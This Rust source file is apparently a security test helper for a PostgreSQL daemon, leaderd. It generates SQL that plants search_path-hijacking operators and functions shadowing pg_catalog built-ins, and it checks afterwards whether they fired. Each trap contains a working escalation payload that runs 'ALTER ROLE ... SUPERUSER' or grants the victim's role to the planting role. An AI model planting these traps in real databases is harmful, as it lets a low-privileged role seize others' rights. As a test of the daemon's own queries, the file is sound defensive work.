//! What another role of a PostgreSQL database can plant for leaderd: an
//! operator or function with the exact argument types a statement uses, in
//! a schema on the search_path of whoever runs the statement, wins over
//! `pg_catalog`'s built-in one. Each trap does its job (so a statement that
//! falls into it still works) and, run by anyone but the role that planted
//! it, writes down whose rights it ran with and tries to make the planter a
//! superuser, or a member of that role.

/// The comparisons planted, on every pair of these types (as the
/// statements compare names, ids, tokens, times and catalog columns).
const COMPARED: &[(&str, &str, &str)] = &[
    ("VARCHAR", "VARCHAR", "text"),
    ("VARCHAR", "TEXT", "text"),
    ("TEXT", "VARCHAR", "text"),
    ("TEXT", "TEXT", "text"),
    ("NAME", "NAME", "text"),
    ("NAME", "TEXT", "text"),
    ("TEXT", "NAME", "text"),
    ("NAME", "VARCHAR", "text"),
    ("VARCHAR", "NAME", "text"),
    ("BIGINT", "BIGINT", "numeric"),
    ("BIGINT", "INTEGER", "numeric"),
    ("INTEGER", "BIGINT", "numeric"),
    ("TIMESTAMPTZ", "TIMESTAMPTZ", "timestamptz"),
    ("OID", "OID", "oid"),
    ("OID", "REGCLASS", "oid"),
    ("REGCLASS", "OID", "oid"),
    ("OID", "REGNAMESPACE", "oid"),
];

/// Arithmetic planted: operator, left, right, result.
const ARITHMETIC: &[(&str, &str, &str, &str)] = &[
    ("+", "BIGINT", "BIGINT", "BIGINT"),
    ("+", "BIGINT", "INTEGER", "BIGINT"),
    ("+", "INTEGER", "BIGINT", "BIGINT"),
    ("+", "NUMERIC", "NUMERIC", "NUMERIC"),
    ("+", "TIMESTAMPTZ", "INTERVAL", "TIMESTAMPTZ"),
    ("+", "INTERVAL", "INTERVAL", "INTERVAL"),
    ("-", "BIGINT", "BIGINT", "BIGINT"),
    ("-", "NUMERIC", "NUMERIC", "NUMERIC"),
    ("-", "TIMESTAMPTZ", "TIMESTAMPTZ", "INTERVAL"),
    ("-", "TIMESTAMPTZ", "INTERVAL", "TIMESTAMPTZ"),
    ("*", "BIGINT", "BIGINT", "BIGINT"),
    ("*", "BIGINT", "INTEGER", "BIGINT"),
    ("*", "NUMERIC", "INTEGER", "NUMERIC"),
    ("*", "NUMERIC", "NUMERIC", "NUMERIC"),
    ("*", "DOUBLE PRECISION", "INTEGER", "DOUBLE PRECISION"),
    ("*", "BIGINT", "INTERVAL", "INTERVAL"),
    ("*", "INTEGER", "INTERVAL", "INTERVAL"),
    ("*", "DOUBLE PRECISION", "INTERVAL", "INTERVAL"),
    ("||", "TEXT", "TEXT", "TEXT"),
    ("||", "VARCHAR", "VARCHAR", "TEXT"),
    ("~", "TEXT", "TEXT", "BOOLEAN"),
    ("~", "VARCHAR", "TEXT", "BOOLEAN"),
    ("~~", "TEXT", "TEXT", "BOOLEAN"),
];

/// Look-alike functions: name, arguments, result, the real call. Every
/// function the daemon's statements, its connect and its migration checks
/// call, with argument types that would beat `pg_catalog`'s where a call
/// were left unqualified.
const FUNCTIONS: &[(&str, &str, &str, &str)] = &[
    ("now", "", "TIMESTAMPTZ", "pg_catalog.now()"),
    (
        "clock_timestamp",
        "",
        "TIMESTAMPTZ",
        "pg_catalog.clock_timestamp()",
    ),
    ("current_schema", "", "NAME", "pg_catalog.current_schema()"),
    (
        "current_schemas",
        "b BOOLEAN",
        "NAME[]",
        "pg_catalog.current_schemas(b)",
    ),
    (
        "current_database",
        "",
        "NAME",
        "pg_catalog.current_database()",
    ),
    (
        "inet_client_addr",
        "",
        "INET",
        "pg_catalog.inet_client_addr()",
    ),
    (
        "inet_client_port",
        "",
        "INTEGER",
        "pg_catalog.inet_client_port()",
    ),
    (
        "inet_server_addr",
        "",
        "INET",
        "pg_catalog.inet_server_addr()",
    ),
    (
        "inet_server_port",
        "",
        "INTEGER",
        "pg_catalog.inet_server_port()",
    ),
    ("host", "a INET", "TEXT", "pg_catalog.host(a)"),
    (
        "quote_ident",
        "a VARCHAR",
        "TEXT",
        "pg_catalog.quote_ident(a)",
    ),
    ("quote_ident", "a NAME", "TEXT", "pg_catalog.quote_ident(a)"),
    (
        "to_regclass",
        "a VARCHAR",
        "REGCLASS",
        "pg_catalog.to_regclass(a)",
    ),
    (
        "to_regnamespace",
        "a VARCHAR",
        "REGNAMESPACE",
        "pg_catalog.to_regnamespace(a)",
    ),
    (
        "pg_has_role",
        "a OID, b VARCHAR",
        "BOOLEAN",
        "pg_catalog.pg_has_role(a, b)",
    ),
    (
        "has_schema_privilege",
        "a NAME, b VARCHAR",
        "BOOLEAN",
        "pg_catalog.has_schema_privilege(a, b)",
    ),
    (
        "has_schema_privilege",
        "a VARCHAR, b VARCHAR",
        "BOOLEAN",
        "pg_catalog.has_schema_privilege(a, b)",
    ),
    (
        "starts_with",
        "a VARCHAR, b VARCHAR",
        "BOOLEAN",
        "pg_catalog.starts_with(a, b)",
    ),
    (
        "starts_with",
        "a TEXT, b VARCHAR",
        "BOOLEAN",
        "pg_catalog.starts_with(a, b)",
    ),
    (
        "pg_notify",
        "a VARCHAR, b VARCHAR",
        "VOID",
        "pg_catalog.pg_notify(a, b)",
    ),
    (
        "pg_notify",
        "a TEXT, b VARCHAR",
        "VOID",
        "pg_catalog.pg_notify(a, b)",
    ),
    (
        "obj_description",
        // TEXT: an unknown literal prefers it, so an unqualified call with
        // a quoted second argument would run this one.
        "a OID, b TEXT",
        "TEXT",
        "pg_catalog.obj_description(a, b)",
    ),
    (
        "split_part",
        "a VARCHAR, b VARCHAR, c INTEGER",
        "TEXT",
        "pg_catalog.split_part(a, b, c)",
    ),
    (
        "format",
        "a VARCHAR, b NAME",
        "TEXT",
        "pg_catalog.format(a, b)",
    ),
    (
        "pg_try_advisory_xact_lock",
        "a INTEGER",
        "BOOLEAN",
        "pg_catalog.pg_try_advisory_xact_lock(a::bigint)",
    ),
    (
        "date_part",
        "a VARCHAR, b TIMESTAMPTZ",
        "DOUBLE PRECISION",
        "pg_catalog.date_part(a, b)",
    ),
    (
        "date_part",
        "a VARCHAR, b INTERVAL",
        "DOUBLE PRECISION",
        "pg_catalog.date_part(a, b)",
    ),
    (
        "array_to_string",
        "a TEXT[], b VARCHAR",
        "TEXT",
        "pg_catalog.array_to_string(a, b)",
    ),
    // An overload of the fence's name (what an app's unqualified call
    // would find first): none of leaderd's, which must not stop a daemon.
    ("leaderd_fence", "a TEXT, b BIGINT", "BIGINT", "b"),
];

/// The SQL that the role `planter` runs to plant every trap in `schema`
/// (it must be allowed to create there).
pub fn plant(schema: &str, planter: &str) -> Vec<String> {
    let s = schema;
    let mut sql = vec![
        format!("CREATE TABLE {s}.trap_seen (who TEXT, what TEXT)"),
        format!("GRANT INSERT ON {s}.trap_seen TO PUBLIC"),
        // The trap's own body resolves nothing through the path (it would
        // fall into itself).
        format!(
            "CREATE FUNCTION {s}.trap_sprung(what TEXT) RETURNS void LANGUAGE plpgsql \
             SET search_path = pg_catalog AS $$ \
             BEGIN \
               IF current_user::text OPERATOR(pg_catalog.<>) '{planter}' THEN \
                 INSERT INTO {s}.trap_seen VALUES (current_user::text, what); \
                 BEGIN \
                   EXECUTE 'ALTER ROLE {planter} SUPERUSER'; \
                 EXCEPTION WHEN OTHERS THEN \
                   BEGIN \
                     EXECUTE 'GRANT ' OPERATOR(pg_catalog.||) quote_ident(current_user::text) \
                       OPERATOR(pg_catalog.||) ' TO {planter}'; \
                   EXCEPTION WHEN OTHERS THEN NULL; \
                   END; \
                 END; \
               END IF; \
             END $$"
        ),
        format!("GRANT EXECUTE ON FUNCTION {s}.trap_sprung(TEXT) TO PUBLIC"),
    ];
    let mut n = 0;
    let mut function = |args: &str, ret: &str, what: &str, body: &str| -> String {
        n += 1;
        let f = format!("{s}.trap_{n}");
        sql.push(format!(
            "CREATE FUNCTION {f}({args}) RETURNS {ret} LANGUAGE plpgsql \
             SET search_path = pg_catalog AS $$ BEGIN PERFORM {s}.trap_sprung('{what}'); \
             RETURN {body}; END $$"
        ));
        f
    };
    let mut operators = Vec::new();
    for &(l, r, common) in COMPARED {
        for op in ["=", "<>", "<", "<=", ">", ">="] {
            let f = function(
                &format!("a {l}, b {r}"),
                "BOOLEAN",
                &format!("{l} {op} {r}"),
                &format!("a::{common} OPERATOR(pg_catalog.{op}) b::{common}"),
            );
            operators.push(format!(
                "CREATE OPERATOR {s}.{op} (LEFTARG = {l}, RIGHTARG = {r}, FUNCTION = {f})"
            ));
        }
    }
    for &(op, l, r, ret) in ARITHMETIC {
        let f = function(
            &format!("a {l}, b {r}"),
            ret,
            &format!("{l} {op} {r}"),
            &format!("a OPERATOR(pg_catalog.{op}) b"),
        );
        operators.push(format!(
            "CREATE OPERATOR {s}.{op} (LEFTARG = {l}, RIGHTARG = {r}, FUNCTION = {f})"
        ));
    }
    sql.extend(operators);
    for &(name, args, ret, call) in FUNCTIONS {
        let body = if ret == "VOID" {
            format!("BEGIN PERFORM {s}.trap_sprung('{name}'); PERFORM {call}; END")
        } else {
            format!("BEGIN PERFORM {s}.trap_sprung('{name}'); RETURN {call}; END")
        };
        sql.push(format!(
            "CREATE FUNCTION {s}.{name}({args}) RETURNS {ret} LANGUAGE plpgsql \
             SET search_path = pg_catalog AS $$ {body} $$"
        ));
    }
    for (elem, name) in [("VARCHAR", "unnest"), ("BIGINT", "unnest")] {
        sql.push(format!(
            "CREATE FUNCTION {s}.{name}(a {elem}[]) RETURNS SETOF {elem} LANGUAGE plpgsql \
             SET search_path = pg_catalog AS $$ BEGIN PERFORM {s}.trap_sprung('{name}({elem}[])'); \
             RETURN QUERY SELECT pg_catalog.unnest(a); END $$"
        ));
    }
    sql
}

/// Who a trap in `schema` ran as, and what it was, as an admin reads it.
pub async fn sprung(admin: &tokio_postgres::Client, schema: &str) -> Vec<(String, String)> {
    admin
        .query(&format!("SELECT who, what FROM {schema}.trap_seen"), &[])
        .await
        .expect("the traps' record")
        .iter()
        .map(|r| (r.get(0), r.get(1)))
        .collect()
}

/// Whether `role` gained anything: superuser, or membership of any role.
pub async fn gained(admin: &tokio_postgres::Client, role: &str) -> Option<String> {
    let row = admin
        .query_one(
            "SELECT r.rolsuper, ARRAY(SELECT g.rolname::pg_catalog.text FROM pg_auth_members m \
             JOIN pg_roles g ON g.oid = m.roleid WHERE m.member = r.oid) \
             FROM pg_roles r WHERE r.rolname = $1",
            &[&role],
        )
        .await
        .expect("the planter's role");
    let (superuser, member_of): (bool, Vec<String>) = (row.get(0), row.get(1));
    (superuser || !member_of.is_empty())
        .then(|| format!("superuser: {superuser}, member of: {member_of:?}"))
}
